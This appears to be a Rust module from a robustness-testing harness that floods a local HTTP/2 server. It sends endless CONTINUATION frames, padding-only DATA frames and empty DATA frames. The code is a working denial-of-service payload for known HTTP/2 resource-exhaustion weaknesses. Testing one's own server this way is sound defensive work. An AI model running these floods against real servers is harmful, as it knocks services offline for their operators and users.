//! Heads that never end, and data that is nothing but padding, over HTTP/2.

use crate::attack::{Attack, AttackFuture, Target};

#[derive(Debug)]
pub(crate) struct HeadsWithoutEnd;

const BEGINNING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
/// `POST /sse/send`, indexed as far as it goes (RFC 7541, 6).
const REQUEST: &[u8] = b"\x83\x86\x44\x09/sse/send\x41\x09localhost";

impl Attack for HeadsWithoutEnd {
    fn name(&self) -> &'static str {
        "heads without end"
    }

    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
        Box::pin(async move {
            let frame = |kind: u8, flags: u8, payload: &[u8]| {
                let length = u8::try_from(payload.len()).unwrap();
                [&[0, 0, length, kind, flags, 0, 0, 0, 1], payload].concat()
            };
            for (begun, flood) in [
                (frame(1, 0, REQUEST), frame(9, 0, b"\x00\x01a\x01b")),
                (frame(1, 4, REQUEST), frame(0, 8, &[0])),
                (frame(1, 4, REQUEST), frame(0, 0, b"")),
            ] {
                let _ = target.hear([BEGINNING, &begun, &flood.repeat(5_000)].concat()).await;
            }
        })
    }
}
